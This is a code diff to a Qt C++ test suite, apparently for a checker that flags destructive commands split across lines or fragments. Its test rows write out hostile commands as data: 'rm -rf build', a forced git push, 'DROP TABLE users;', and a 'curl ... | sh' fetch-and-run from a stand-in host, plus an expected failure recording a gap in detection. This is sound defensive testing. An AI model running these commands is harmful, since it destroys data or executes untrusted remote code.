@@ -33,7 +33,6 @@ private Q_SLOTS:
         row("as one word", "git push --for", "ce", true);
         row("as one word, at its beginning", "r", "m -rf build", true);
         row("as lines, the first one ending in a backslash", "rm \\", "-rf build", true);
-        row("as lines, the first one ending in a pipe", "curl https://x.example/a |", "sh", true);
         row("SQL over lines", "DROP", "TABLE users;", true);
         row("SQL over three lines", "SELECT 1;\nDROP", "TABLE users;", true);
         row("a long text that begins with the rest", "rm", "-rf build " + QByteArray(100'000, 'x'), true);
@@ -52,6 +51,23 @@ private Q_SLOTS:
         const auto verdict = judged(text.toStdString(), before.toStdString());
         QTEST(verdict.destructive, "destructive");
         QCOMPARE(verdict.hits.empty(), !verdict.destructive);
+    }
+    /// What a rule marks may lie in the later part alone, though it takes the earlier one to be bad.
+    void whatIsMarkedLiesInTheLaterPartAlone_data()
+    {
+        QTest::addColumn<QByteArray>("before");
+        QTest::addColumn<QByteArray>("text");
+        QTest::newRow("a pipe at the end") << QByteArray("curl https://x.example/a |") << QByteArray("sh");
+        QTest::newRow("a pipe at the beginning") << QByteArray("curl https://x.example/a") << QByteArray("| bash");
+    }
+    void whatIsMarkedLiesInTheLaterPartAlone()
+    {
+        QFETCH(QByteArray, before);
+        QFETCH(QByteArray, text);
+        QVERIFY(judge((before + ' ' + text).toStdString()).destructive);
+        QVERIFY(!judge(text.toStdString()).destructive);
+        QEXPECT_FAIL("", "A hit that is marked in the later part counts as that part's own, which had none", Continue);
+        QVERIFY(judged(text.toStdString(), before.toStdString()).destructive);
     }
     void whatIsMarkedLiesInTheText()
     {
